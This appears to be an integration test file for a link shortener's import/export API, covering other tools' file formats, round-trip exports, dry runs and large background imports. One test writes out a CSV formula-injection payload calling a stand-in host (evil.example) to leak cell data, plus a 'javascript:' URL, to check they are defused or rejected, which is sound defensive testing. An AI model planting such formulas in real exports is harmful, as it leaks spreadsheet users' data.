/**
 * Import from other shorteners' files and our own export, against the real Redis and Postgres: every fixture
 * is written from its tool's documented columns and imported with exact counts; export, import into an
 * empty domain and export again give the same bytes; a second import creates nothing.
 */
import { eq, inArray } from "drizzle-orm";
import { afterAll, describe, expect, it } from "vitest";
import { importJobs, links } from "../db/schema.ts";
import { SYNC_MAX_CHARS } from "../functions/imports/jobs.ts";
import { redisKeys } from "../functions/shared/redis-keys.ts";
import bitly from "./fixtures/import/bitly.csv?raw";
import dub from "./fixtures/import/dub.csv?raw";
import kutt from "./fixtures/import/kutt.json?raw";
import shlinkExport from "./fixtures/import/shlink-export.csv?raw";
import shlinkImport from "./fixtures/import/shlink-import.csv?raw";
import yourls from "./fixtures/import/yourls.csv?raw";
import { inAnHour } from "./helpers/api.ts";
import { withDb } from "./helpers/db.ts";
import { DomainFixtures } from "./helpers/domains.ts";
import { redis } from "./helpers/redis.ts";
import { call } from "./helpers/worker.ts";

const fixtures = new DomainFixtures();
afterAll(() => fixtures.cleanup());

export async function importFile(body: string, query: Record<string, string> = {}, type = "text/csv"): Promise<{ status: number; report: any }> {
  const qs = new URLSearchParams(query).toString();
  const res = await call("POST", `/api/v1/links/import${qs ? `?${qs}` : ""}`, { raw: body, headers: { "content-type": type } });
  return { status: res.status, report: await res.json() };
}

const linksOn = (host: string) => withDb((db) => db.select().from(links).where(eq(links.domain, host)));

async function exportOf(host: string, format = "csv"): Promise<string> {
  const res = await call("GET", `/api/v1/links/export?format=${format}&domain=${host}`);
  expect(res.status).toBe(200);
  return res.text();
}

describe("POST /api/v1/links/import: each tool's file", () => {
  const cases = [
    { name: "Bitly export", file: bitly, format: "bitly", total: 3, created: 2, errors: [4] },
    { name: "Shlink CSV import", file: shlinkImport, format: "shlink", total: 3, created: 3, errors: [] },
    { name: "Shlink web client export", file: shlinkExport, format: "shlink", total: 2, created: 2, errors: [] },
    { name: "Kutt API list", file: kutt, format: "kutt", total: 3, created: 2, errors: [34], type: "application/json" },
    { name: "Dub CSV import", file: dub, format: "dub", total: 2, created: 2, errors: [] },
    { name: "YOURLS export", file: yourls, format: "yourls", total: 4, created: 3, errors: [5] },
  ];
  for (const c of cases) {
    it(`${c.name}: sniffed as ${c.format}, ${c.created} of ${c.total} created, bad rows named by line`, async () => {
      const { hostname } = await fixtures.add();
      const { status, report } = await importFile(c.file, { domain: hostname }, c.type);
      expect(status).toBe(200);
      expect(report).toMatchObject({ status: "done", format: c.format, total: c.total, processed: c.total, created: c.created, updated: 0, skipped: 0, failed: c.errors.length });
      expect(report.errors.map((e: any) => e.line)).toEqual(c.errors);
      expect((await linksOn(hostname)).length).toBe(c.created);
      // The report stays readable by its id.
      const again = await call("GET", `/api/v1/imports/${report.id}`);
      expect(await again.json()).toEqual(report);
      // Twice: nothing new, every good row skipped.
      const second = await importFile(c.file, { domain: hostname }, c.type);
      expect(second.report).toMatchObject({ created: 0, skipped: c.created, failed: c.errors.length });
      expect((await linksOn(hostname)).length).toBe(c.created);
    });
  }

  it("maps each tool's columns: slugs from short URLs, tags split, creation times kept, link cache written", async () => {
    const { hostname } = await fixtures.add();
    await importFile(bitly, { domain: hostname });
    const [one] = (await linksOn(hostname)).filter((l) => l.slug === "fxBitly1");
    expect(one).toMatchObject({ url: "https://example.com/bitly/one", title: "Bitly one", tags: ["news", "launch"] });
    expect(one.createdAt.toISOString()).toBe("2023-04-01T10:00:00.000Z");
    expect(await redis.get(redisKeys.linkOn(hostname, "fxBitly1"))).not.toBeNull();
    const redirect = await call("GET", `http://${hostname}/fxBitly1`, { key: null });
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get("location")).toBe("https://example.com/bitly/one");
  });

  it("a dry run reports the same counts and writes nothing", async () => {
    const { hostname } = await fixtures.add();
    const { report } = await importFile(yourls, { domain: hostname, dryRun: "true" });
    expect(report).toMatchObject({ dryRun: true, created: 3, failed: 1 });
    expect(await linksOn(hostname)).toEqual([]);
  });

  it("onConflict=update rewrites a changed link and skips an unchanged one", async () => {
    const { hostname } = await fixtures.add();
    await importFile(shlinkImport, { domain: hostname });
    const changed = shlinkImport.replace("Shlink one", "Shlink one, renamed");
    const { report } = await importFile(changed.replace("Shlink one, renamed", '"Shlink one, renamed"'), { domain: hostname, onConflict: "update" });
    expect(report).toMatchObject({ created: 0, updated: 1, skipped: 2 });
    const [one] = (await linksOn(hostname)).filter((l) => l.slug === "fx-shlink-i1");
    expect(one.title).toBe("Shlink one, renamed");
    expect(one.version).toBe(2);
  });

  it("1,000 rows with 3 bad ones: 997 created, the 3 named by their lines", async () => {
    const { hostname } = await fixtures.add();
    const bad = new Map([[17, "ftp://nope"], [500, "not a url"], [999, "javascript:alert(1)"]]);
    const lines = ["url,slug,title"];
    for (let i = 1; i <= 1000; i++) lines.push(`${bad.get(i) ?? `https://example.com/n/${i}`},k${i},T${i}`);
    const { report } = await importFile(lines.join("\n"), { domain: hostname });
    expect(report).toMatchObject({ total: 1000, created: 997, failed: 3 });
    // Row i is on line i + 1, after the header.
    expect(report.errors.map((e: any) => e.line)).toEqual([18, 501, 1000]);
    expect(report.errors[0].message).toMatch(/^url: /);
    expect((await linksOn(hostname)).length).toBe(997);
  });

  it("a repeated slug in one file: the second row is a conflict with the first", async () => {
    const { hostname } = await fixtures.add();
    const { report } = await importFile("url,slug\nhttps://example.com/1,dup\nhttps://example.com/2,dup\n", { domain: hostname });
    expect(report).toMatchObject({ created: 1, skipped: 1 });
    expect((await linksOn(hostname))[0].url).toBe("https://example.com/1");
  });
});

describe("export, then import into an empty domain, then export", () => {
  it("gives the same file, in CSV and in JSON", async () => {
    const { hostname } = await fixtures.add();
    const bulk = await call("POST", "/api/v1/links/bulk", {
      body: {
        links: [
          { url: "https://example.com/rt/1", slug: "rt-one", domain: hostname, title: 'Quotes "and", commas', tags: ["a", "b c"] },
          { url: "https://example.com/rt/2", domain: hostname, redirectType: 301, maxClicks: 5, expiresAt: inAnHour(), fallbackUrl: "https://example.com/gone" },
          { url: "https://example.com/rt/3", slug: "rt-three", domain: hostname, title: "multi\nline",
            rules: [{ url: "https://example.com/mobile", conditions: [{ type: "device", matchValue: "mobile" }] }],
            variants: [{ url: "https://example.com/a", weight: 50 }, { url: "https://example.com/b", weight: 50 }] },
        ],
      },
    });
    expect(bulk.status).toBe(200);
    await call("POST", "/api/v1/links", {
      body: { url: "https://example.com/rt/4", slug: "rt-four", domain: hostname, validSince: inAnHour(), forwardQuery: false, crawlable: true },
    });
    const csv = await exportOf(hostname);
    const json = await exportOf(hostname, "json");
    expect(csv.split("\r\n")[0]).toBe("id,slug,domain,shortUrl,url,redirectType,title,tags,expiresAt,maxClicks,fallbackUrl,hasPassword,rules,variants,validSince,forwardQuery,crawlable,preview,clicks,createdAt,updatedAt");
    expect(JSON.parse(json)).toHaveLength(4);
    expect(csv).toMatch(/,false,true,,0,/); // rt-four: forwardQuery false, crawlable true, no preview card

    for (const [format, file, type] of [["csv", csv, "text/csv"], ["json", json, "application/json"]] as const) {
      await withDb((db) => db.delete(links).where(eq(links.domain, hostname)));
      const { report } = await importFile(file, {}, type);
      expect(report).toMatchObject({ format, created: 4, failed: 0 });
      expect(await exportOf(hostname, format)).toBe(file);
      const second = await importFile(file, {}, type);
      expect(second.report).toMatchObject({ created: 0, skipped: 4 });
    }
  });
});

describe("CSV cells that a spreadsheet would run", () => {
  it("come out of the export defused with an apostrophe, and an import of that file gives them back exactly", async () => {
    const { hostname } = await fixtures.add();
    const titles = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1", "-2", "@SUM(A1)", "\tTabbed", "'already quoted", "plain"];
    const bulk = await call("POST", "/api/v1/links/bulk", {
      body: { links: titles.map((title, i) => ({ url: `https://example.com/formula/${i}`, slug: `formula-${i}`, domain: hostname, title })) },
    });
    expect(bulk.status).toBe(200);
    const csv = await exportOf(hostname);
    const lines = csv.split("\r\n");
    // No cell of any row starts with a formula trigger (quoted or not).
    for (const line of lines.slice(1, -1)) expect(line, line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(",''already quoted,");
    await withDb((db) => db.delete(links).where(eq(links.domain, hostname)));
    expect((await importFile(csv)).report).toMatchObject({ format: "csv", created: titles.length, failed: 0 });
    const back = await linksOn(hostname);
    expect(back.map((l) => l.title).sort()).toEqual([...titles].sort());
    expect(await exportOf(hostname)).toBe(csv);
  });
});

describe("more rows than one request applies", () => {
  it("answers 202 and finishes in the background; GET /api/v1/imports/{id} reports the progress", async () => {
    const { hostname } = await fixtures.add();
    const lines = ["Long URL,Title"];
    for (let i = 0; i < 10_050; i++) lines.push(`https://example.com/bg/${i},row ${i}`);
    const res = await call("POST", `/api/v1/links/import?domain=${hostname}`, { raw: lines.join("\n"), headers: { "content-type": "text/csv" } });
    expect(res.status).toBe(202);
    const { id } = (await res.json()) as { id: string };
    // The request's own waitUntil ran the job (call waits for it).
    const report = (await (await call("GET", `/api/v1/imports/${id}`)).json()) as any;
    expect(report).toMatchObject({ status: "done", total: 10_050, processed: 10_050, created: 10_050, failed: 0 });
    expect((await linksOn(hostname)).length).toBe(10_050);
    // Removed here, in one statement: the fixtures' cleanup forgets clicks link by link, too slow for 10,000.
    await withDb(async (db) => {
      await db.delete(importJobs).where(inArray(importJobs.id, [id]));
      await db.delete(links).where(eq(links.domain, hostname));
    });
  }, 180_000);

  it("fewer rows, but more text than a request holds until the file is read: 202 as well", async () => {
    const { hostname } = await fixtures.add();
    const lines = ["url,slug,title"];
    const path = "p".repeat(1_800), title = "t".repeat(500);
    for (let i = 0; i < 4_000; i++) lines.push(`https://example.com/${path}/${i},wide-${i},${title}`);
    const body = lines.join("\n");
    expect(body.length).toBeGreaterThan(SYNC_MAX_CHARS);
    const res = await call("POST", `/api/v1/links/import?domain=${hostname}&dryRun=true`, {
      raw: body, headers: { "content-type": "text/csv", "content-length": String(body.length) },
    });
    expect(res.status).toBe(202);
    const { id } = (await res.json()) as { id: string };
    const report = (await (await call("GET", `/api/v1/imports/${id}`)).json()) as any;
    expect(report).toMatchObject({ status: "done", dryRun: true, total: 4_000, processed: 4_000, created: 4_000, failed: 0 });
    await withDb((db) => db.delete(importJobs).where(eq(importJobs.id, id)));
  }, 60_000);
});
